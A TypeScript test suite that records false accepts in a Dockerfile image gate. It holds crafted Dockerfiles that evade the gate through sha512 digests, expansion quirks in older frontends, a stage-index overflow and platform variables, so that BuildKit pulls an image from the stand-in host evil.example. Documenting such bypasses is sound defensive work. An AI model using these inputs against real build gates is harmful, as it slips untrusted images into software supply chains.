// Review round 10: Dockerfiles the gate accepts while some BuildKit (Dockerfile frontend) version
// pulls an image the gate never lists. Each test PASSES when the gate shows the false accept.
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { parseDockerfile, type FromLine } from '../../src/dockerfile/parse.js'
import { readDockerfiles } from '../../src/dockerfile/read.js'

const parse = (text: string, buildArgs: Record<string, string> = {}) =>
  parseDockerfile(text, { buildArgs: new Map(Object.entries(buildArgs)), platform: 'linux/amd64' })

/** What the gate would gate (images) or report as unusable (invalid). */
const listed = (froms: FromLine[]) =>
  froms.map((f) =>
    f.base.kind === 'image' ? `image ${f.base.text}` : f.base.kind === 'invalid' ? 'invalid' : f.base.kind,
  )

const HEX512 = 'a'.repeat(128)

describe('F1: other frontend readings that give a reference the GATE cannot parse are skipped', () => {
  // parse.ts: `if (theirs.kind !== 'invalid' && …)`: an "invalid" reading is assumed to fail the
  // build. But parseReference refuses sha512 digests that Go's reference.ParseNormalizedNamed
  // (and so every BuildKit) accepts. Verified with Docker 20.10.24's embedded frontend (BuildKit
  // v0.8, an "oldest"-generation frontend): it sent HEAD https://evil.example/v2/h1/manifests/sha512:aaa…
  test('oldest frontends: a default they cannot expand is "", so the sha512 fallback is pulled', () => {
    const text = `# syntax=docker/dockerfile:1.2\nARG A=\${NOPE-alpine:3.20}\nFROM \${A:-evil.example/h1@sha512:${HEX512}}\n`
    expect(listed(parse(text))).toEqual(['image alpine:3.20'])
    // The same file with a sha256 fallback is refused: only the digest algorithm hides it.
    const sha256 = text.replace(`sha512:${HEX512}`, `sha256:${'a'.repeat(64)}`)
    expect(listed(parse(sha256))).toEqual(['invalid'])
  })

  test('older (2023–2024) frontends: ARG without a value is "" (set)', () => {
    const text = `ARG T\nFROM \${T+evil.example/h1@sha512:${HEX512}}\${T-alpine:3.20}\n`
    expect(listed(parse(text))).toEqual(['image alpine:3.20'])
  })

  test('newest frontends with TARGETSTAGE set', () => {
    const text = `ARG S=\${TARGETSTAGE:+a}\nFROM \${S:+evil.example/h1@sha512:${'a'.repeat(127)}}\${S:-alpine:3.20}\n`
    expect(listed(parse(text))).toEqual(['image alpine:3.20'])
  })
})

describe('F2: the gate’s own expansion limit is taken for a frontend failure in older readings', () => {
  // metaArgs(): for generations other than 'current', any expandWord error (including the gate's
  // fromExpansionChars = 8192 limit, which BuildKit does not have) sets the ARG to "".
  const file = (n: number) =>
    `ARG T\nARG A=\${T+${'x'.repeat(n)}}\nARG B=$A$A\nARG E=\${B:+x}\nFROM \${E:+evil.example/h2:1}\${E:-alpine:3.20}\n`
  test('B over 8192 characters in the older reading: accepted as alpine only', () => {
    expect(listed(parse(file(4500)))).toEqual(['image alpine:3.20'])
  })
  test('the same file with a short A is refused (the gate itself sees evil.example/h2:1x)', () => {
    const [from] = parse(file(10))
    expect(from!.base).toMatchObject({
      kind: 'invalid',
      problem: expect.stringMatching(/evil\.example\/h2:1x for older ones/),
    })
  })
})

describe('F3: BUILDKIT_DISABLE_FILEOP makes frontends before BuildKit 0.11 pull a helper image', () => {
  // dockerfile2llb useFileOp(): with the build-arg true, COPY/ADD run
  // docker/dockerfile-copy:v0.1.9@sha256:e8f159d3… (DefaultCopyImage). Verified with Docker
  // 20.10.24 (--build-arg BUILDKIT_DISABLE_FILEOP=1): "[internal] helper image for file operations",
  // HEAD registry-1.docker.io/v2/docker/dockerfile-copy/manifests/sha256:e8f159d3…
  test('the gate lists nothing for FROM scratch + COPY', () => {
    const text = '# syntax=docker/dockerfile:1.4\nFROM scratch\nCOPY a /a\n'
    expect(listed(parse(text, { BUILDKIT_DISABLE_FILEOP: '1' }))).toEqual(['scratch'])
  })
})

describe('F4: COPY --from=<digits> is a stage index only where Go’s int is 64-bit', () => {
  // toCommand: strconv.Atoi(c.From); on a 32-bit frontend (docker/dockerfile for linux/386,
  // arm/v6, arm/v7) 2147483648 overflows, so it is looked up as a name and pulled as
  // docker.io/library/2147483648. Docker 20.10.24 on amd64: "invalid stage index 2147483648".
  test('the gate takes it for a stage and lists nothing', () => {
    const froms = parse('FROM alpine:3.20\nCOPY --from=2147483648 /a /b\n')
    expect(listed(froms)).toEqual(['image alpine:3.20'])
  })
})

describe('F5: one platform is read; a multi-platform build pulls one base per platform', () => {
  test('FROM …-${TARGETARCH} lists the runner architecture only', () => {
    const froms = parse('ARG TARGETARCH\nFROM evil.example/base-${TARGETARCH}:1\n')
    expect(listed(froms)).toEqual(['image evil.example/base-amd64:1'])
  })
})

describe('over-strict: a Dockerfile that is not UTF-8 is refused although BuildKit reads bytes', () => {
  test('a Latin-1 comment (Docker 20.10.24 builds it)', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'df10-'))
    const file = path.join(dir, 'Dockerfile')
    fs.writeFileSync(file, Buffer.from('# Cr\xe9\xe9 par Jos\xe9\nFROM alpine:3.20\n', 'latin1'))
    expect(() =>
      readDockerfiles([file], { buildArgs: new Map(), platform: 'linux/amd64' }),
    ).toThrow(/not UTF-8/)
  })
})
